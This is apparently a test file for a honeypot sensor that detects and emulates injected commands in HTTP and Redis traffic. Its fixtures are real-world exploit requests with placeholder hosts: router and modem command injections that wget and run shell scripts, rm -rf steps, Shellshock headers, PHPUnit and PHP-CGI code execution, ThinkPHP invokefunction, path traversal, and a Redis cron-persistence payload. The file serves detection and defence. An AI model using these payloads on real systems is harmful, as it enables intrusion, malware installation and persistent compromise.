import fc from 'fast-check'
import { expect, test } from 'vitest'
import { jobsOf } from '../../world/cron.ts'
import { testSensor } from '../../testing.ts'
import { bodyOf, injectionOf } from './injection.ts'
import type { Request } from './message.ts'

const request = (
  target: string,
  { headers = [], body = '', method = 'GET' }: { headers?: string[]; body?: string; method?: string } = {},
): Request => ({
  method,
  target,
  version: '1.1',
  headers,
  body: Buffer.from(body),
  length: body.length,
  raw: Buffer.alloc(0),
  keepAlive: false,
})

test('commands within requests are found by their form', () => {
  const found: readonly [string, Request, string, string][] = [
    // Real requests that honeypots have seen, their hosts replaced.
    [
      'a router',
      request(
        '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+%2Ftmp%3B+wget+http%3A%2F%2F192.0.2.1%2Fsh%3B+sh+sh%60)',
      ),
      'command-injection',
      ': $(id>`cd /tmp; wget http://192.0.2.1/sh; sh sh`)',
    ],
    [
      'a modem',
      request(
        '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/m+-O+/tmp/n;sh+/tmp/n&curpath=/',
      ),
      'web-shell',
      'rm -rf /tmp/*;wget http://192.0.2.1/m -O /tmp/n;sh /tmp/n',
    ],
    [
      'a recorder',
      request('/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/jaws;sh+/tmp/jaws'),
      'web-shell',
      'cd /tmp;rm -rf *;wget 192.0.2.1/jaws;sh /tmp/jaws',
    ],
    [
      'a form',
      request('/goform/x', {
        method: 'POST',
        body: 'ttcp_ip=-h+%60cd+%2Ftmp%3B+wget+http%3A%2F%2F192.0.2.1%2Fa%60&action=',
      }),
      'command-injection',
      ': -h `cd /tmp; wget http://192.0.2.1/a`',
    ],
    [
      'a header',
      request('/HNAP1/', {
        headers: ['SOAPAction: "http://purenetworks.com/HNAP1/`cd /tmp && wget http://192.0.2.1/a`"'],
      }),
      'command-injection',
      ': "http://purenetworks.com/HNAP1/`cd /tmp && wget http://192.0.2.1/a`',
    ],
    [
      'XML',
      request('/ctrlt', {
        method: 'POST',
        body: '<NewStatusURL>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/k -r /k; sh /tmp/k)</NewStatusURL>',
      }),
      'command-injection',
      ': $(/bin/busybox wget -g 192.0.2.1 -l /tmp/k -r /k; sh /tmp/k)',
    ],
    [
      'blanks hidden',
      request('/x?ip=1.1.1.1;wget${IFS}http://192.0.2.1/a'),
      'command-injection',
      ': 1.1.1.1;wget${IFS}http://192.0.2.1/a',
    ],
    [
      'quotes closed',
      request('/x?host=a%27;wget%20http://192.0.2.1/a;%27'),
      'command-injection',
      ': ;wget http://192.0.2.1/a',
    ],
    [
      'a shell in CGI',
      request('/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh', { method: 'POST', body: 'echo;id' }),
      'apache-path-traversal',
      'echo;id',
    ],
    [
      'functions in headers',
      request('/cgi-bin/status', { headers: ['User-Agent: () { :;}; echo; /bin/id'] }),
      'shellshock',
      'echo; /bin/id',
    ],
    [
      'PHP in a body',
      request('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', {
        method: 'POST',
        body: '<?php system("uname -a");',
      }),
      'phpunit-eval-stdin',
      'uname -a',
    ],
    [
      'PHP, hidden',
      request('/lib/phpunit/Util/PHP/eval-stdin.php', {
        method: 'POST',
        body: "<?php shell_exec(base64_decode('aWQgPiAvdG1wL3g='));",
      }),
      'phpunit-eval-stdin',
      'id > /tmp/x',
    ],
    [
      'PHP by arguments',
      request('/hello.world?%ADd+allow_url_include=1+%ADd+auto_prepend_file=php://input', {
        method: 'POST',
        body: "<?php passthru('id'); ?>",
      }),
      'php-cgi-argument',
      'id',
    ],
    [
      'a framework',
      request(
        '/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=id',
      ),
      'thinkphp-invokefunction',
      'id',
    ],
  ]
  for (const [name, given, exploit, command] of found) {
    const injection = injectionOf(given)
    expect([injection?.exploit, injection?.command], name).toEqual([exploit, command])
  }
})

test('a sum by which scanners look is given back', () => {
  const answer = (given: Request) => injectionOf(given)?.answer
  const md5 = '8b1a9953c4611296a827abf8c47804d7'
  expect(
    answer(
      request('/vendor/phpunit/src/Util/PHP/eval-stdin.php', { method: 'POST', body: '<?php echo(md5("Hello"));' }),
    ),
  ).toBe(md5)
  expect(
    answer(request('/?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello')),
  ).toBe(md5)
  expect(bodyOf('Content-Type: text/plain\n\nuid=0\n')).toBe('uid=0\n')
  expect(bodyOf('\nuid=0\n')).toBe('uid=0\n')
})

test('what people and crawlers ask for is no command', () => {
  const plain = [
    request('/'),
    request('/search?q=cats+and+dogs;+a+guide&lang=en&id=7&cmd=list'),
    request('/a?x=1;y=2&next=/id', {
      headers: ['User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101', 'Cookie: a=1; id=5; sh=2'],
    }),
    request('/login', { method: 'POST', body: 'user=admin&password=p%26ss%3Bword%7C1' }),
    request('/api', { method: 'POST', body: '{"text": "echo; or not", "n": 1}' }),
  ]
  for (const one of plain) expect(injectionOf(one), one.target).toBeUndefined()
})

test('no request is too odd, and none takes long', () => {
  fc.assert(
    fc.property(fc.string(), fc.string(), fc.array(fc.string(), { maxLength: 5 }), (target, body, headers) => {
      injectionOf(request(`/${target}`, { body, headers }))
    }),
  )
  const began = performance.now()
  for (const part of [
    ';wget '.repeat(50_000),
    '`'.repeat(100_000),
    "'".repeat(100_000),
    '() {'.repeat(50_000),
    '&a='.repeat(50_000),
    '%'.repeat(100_000),
    '$('.repeat(60_000),
    `${';'.repeat(16_000)}wget x`,
    `;wget ${' '.repeat(16_000)}x`,
    `;wget ${'"'.repeat(16_000)}x`,
    `system("${'system("'.repeat(2000)}`,
    `>${'"a":'.repeat(4000)}`,
  ])
    injectionOf(request(`/x?a=${part}`, { body: part, headers: [`User-Agent: ${part}`], method: 'POST' }))
  expect(performance.now() - began).toBeLessThan(20_000)
})

test('an injected command runs in the world of the attacker, is told, and its output comes back', async () => {
  await using lab = await testSensor()
  const at = `http://127.0.0.1:${lab.port('http')}`
  const shown = await fetch(`${at}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`, {
    method: 'POST',
    body: '<?php system("id; echo left > /tmp/left"); ?>',
  })
  expect(shown.status).toBe(200)
  expect(await shown.text()).toBe('uid=33(www-data) gid=33(www-data) groups=33(www-data)\n')
  const again = await fetch(`${at}/cgi-bin/status`, { headers: { 'user-agent': '() { :; }; echo; cat /tmp/left' } })
  expect(await again.text()).toBe('left\n')
  await fetch(`${at}/ping?host=1.1.1.1%3Bwget%20http%3A%2F%2F192.0.2.7%2Fx.sh%20-O%20-%7Csh`)
  const ran = await lab.until('command.run', (event) => event.data.line.includes('192.0.2.7'))
  const events = await lab.events()
  const asked = events.find((event) => event.kind === 'request' && event.data.target.startsWith('/ping'))
  expect(ran.data.parent).toBe(asked?.id)
  expect(events.flatMap((event) => (event.kind === 'exploit.match' ? [event.data.exploit] : []))).toEqual([
    'phpunit-eval-stdin',
    'shellshock',
    'command-injection',
  ])
  expect(events.some((event) => event.kind === 'payload.seen' && event.data.url === 'http://192.0.2.7/x.sh')).toBe(true)
  expect(lab.log).toEqual([])
}, 30_000)

test('jobs are found in whatever is written into a crontab, and run', async () => {
  expect(
    jobsOf('\0REDIS0009\xfa\n\n*/2 * * * * root cd1 -fsSL http://192.0.2.1/a | sh\n\n@reboot /tmp/x\n# no\n1 2 3 text'),
  ).toEqual(['cd1 -fsSL http://192.0.2.1/a | sh', '/tmp/x'])
  expect(jobsOf('* * * * * www-data /tmp/y\n', true)).toEqual(['/tmp/y'])
  await using lab = await testSensor()
  const socket = await lab.connect('redis')
  socket.on('error', () => {})
  socket.write('CONFIG SET dir /var/spool/cron/crontabs\r\nCONFIG SET dbfilename root\r\n')
  socket.write('SET x "\\n\\n* * * * * echo from-cron > /tmp/c; wget http://192.0.2.8/m.sh\\n\\n"\r\nSAVE\r\n')
  const ran = await lab.until('command.run')
  expect(ran.data).toMatchObject({ line: 'echo from-cron > /tmp/c; wget http://192.0.2.8/m.sh', user: 'root' })
  const left = (await lab.events()).find((event) => event.kind === 'persistence.added')
  expect(ran.data.parent).toBe(left?.id)
  socket.destroy()
}, 30_000)
